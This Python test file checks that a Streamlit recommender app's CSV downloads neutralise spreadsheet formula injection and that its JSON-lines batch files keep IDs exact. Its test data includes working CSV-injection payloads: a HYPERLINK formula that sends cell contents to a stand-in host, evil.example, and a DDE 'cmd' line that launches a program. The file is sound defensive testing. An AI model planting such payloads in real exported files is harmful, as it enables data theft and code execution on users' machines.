"""CSV downloads neutralise formulas (issue 13, finding 7), one helper for all of them.

A dataset group whose user and item IDs and titles look like spreadsheet formulas is trained,
then every download button of every page is pressed (its data captured as Streamlit gets it):
no CSV cell may start with =, +, -, @, a tab or a carriage return; JSON-lines downloads keep
IDs exact (they are Personalize batch files) and every line starts with "{".
"""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path
from typing import Any

import pandas as pd
import pytest
import streamlit as st
from streamlit.delta_generator import DeltaGenerator

from scoring import batch_files, csv_safe, health_metrics, paths, results, user_groups
from tests.app_support import errors_of, new_app
from tests.support import small_data

FORMULAS = ['=HYPERLINK("http://evil.example?"&A1,"x")', "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3",
            "\t=1+1", "\r=1+1"]
DANGER = ("=", "+", "-", "@", "\t", "\r")


def _cells(data: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(data.decode("utf-8"), newline="")) for cell in row]


def _number(cell: str) -> bool:
    try:
        float(cell)
        return True
    except ValueError:
        return False


def assert_inert(data: bytes) -> None:
    cells = _cells(data)
    assert cells
    bad = [c for c in cells if c.startswith(DANGER) and not _number(c)]
    assert not bad, bad[:5]


# -- the helper ---------------------------------------------------------------------------------
@pytest.mark.parametrize("value", FORMULAS)
def test_formula_cells_get_a_quote_and_come_back(value: str) -> None:
    safe = csv_safe.neutralise(value)
    assert safe == "'" + value and csv_safe.restore(safe) == value


def test_numbers_and_plain_text_are_untouched() -> None:
    for value in (-0.5, 3, 0.25, "abc", "a=b", "", "'quoted"):
        assert csv_safe.neutralise(value) == value


def test_results_table_csv_is_inert() -> None:
    table = pd.DataFrame({"Rank": [1, 2, 3, 4, 5, 6], "Item ID": FORMULAS, "Score": [-0.5, 0.4, 0.3, 0.2, 0.1, 0.0],
                          FORMULAS[0]: FORMULAS})
    data = results.to_csv(table)
    assert_inert(data)
    assert "-0.5" in data.decode()  # numbers stay numbers


def test_health_lists_csv_is_inert_and_reads_back() -> None:
    lists = health_metrics.RecLists(FORMULAS, [FORMULAS[:3]] * len(FORMULAS), [[0.5, None, 0.1]] * len(FORMULAS))
    data = batch_files.lists_csv(lists)
    assert_inert(data)
    back = batch_files.read_lists_csv(data)
    assert back.user_ids == FORMULAS and back.items[0] == FORMULAS[:3]


# -- every download button of every page ----------------------------------------------------------
@pytest.fixture
def captured(monkeypatch: pytest.MonkeyPatch) -> list[tuple[str, bytes]]:
    """(file name, data) of every st.download_button drawn."""
    seen: list[tuple[str, bytes]] = []
    original = DeltaGenerator.download_button

    def recording(self: DeltaGenerator, label: str, data: Any, file_name: str | None = None,
                  *args: Any, **kwargs: Any) -> Any:
        raw = data.encode() if isinstance(data, str) else bytes(data)
        seen.append((str(file_name or kwargs.get("file_name")), raw))
        return original(self, label, data, file_name, *args, **kwargs)

    monkeypatch.setattr(DeltaGenerator, "download_button", recording)
    monkeypatch.setattr(st, "download_button", lambda *a, **k: recording(st._main, *a, **k))
    return seen


@pytest.fixture
def formula_group(demo_dir: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> str:
    root = tmp_path / "data"
    monkeypatch.setattr(paths, "DATA_ROOT", root)
    interactions, items = small_data.frames()
    interactions["USER_ID"] = "=u" + interactions["USER_ID"].str[1:]
    interactions["ITEM_ID"] = "@" + interactions["ITEM_ID"]
    items["ITEM_ID"] = "@" + items["ITEM_ID"]
    items["TITLE"] = [FORMULAS[n % 4] + f" {n}" for n in range(len(items))]
    files = {paths.INTERACTIONS_FILE: interactions.to_csv(index=False).encode(),
             paths.ITEMS_FILE: items.to_csv(index=False).encode()}
    user_groups.create_group(files, "formulas", root=root,
                             settings=user_groups.TrainingSettings(dim=8, epochs=1))
    return "formulas"


def test_test_campaign_download_is_inert(formula_group: str, captured: list[tuple[str, bytes]]) -> None:
    at = new_app()
    at.session_state["local_group"] = formula_group
    at.run()
    at.text_input(key="user_id").input("=u1")
    at.button(key="submit").click().run()
    assert not at.exception and not errors_of(at)
    csvs = [data for name, data in captured if name.endswith(".csv")]
    assert csvs, captured
    text = csvs[-1].decode()
    assert "'=HYPERLINK" in text or "'+cmd" in text or "'@SUM" in text  # titles were there
    assert_inert(csvs[-1])


def test_health_check_downloads_are_inert(formula_group: str, captured: list[tuple[str, bytes]]) -> None:
    at = new_app()
    at.session_state["local_group"] = formula_group
    at.run()
    at.switch_page("pages/health_check.py").run()
    at.button(key="health_run").click().run()
    assert not at.exception and not errors_of(at)
    names = {name.rsplit("-", 1)[-1] for name, _ in captured}
    assert {"health.csv", "users.json.out", "users.json"} <= names, names
    for name, data in captured:
        if name.endswith(".csv"):
            assert_inert(data)
        else:  # Personalize batch files: exact IDs, and no line a spreadsheet could run
            lines = data.decode().splitlines()
            assert lines and all(line.startswith("{") for line in lines)
            records = [json.loads(line) for line in lines]
            assert any(r.get("input", r).get("userId", "").startswith("=u") for r in records)
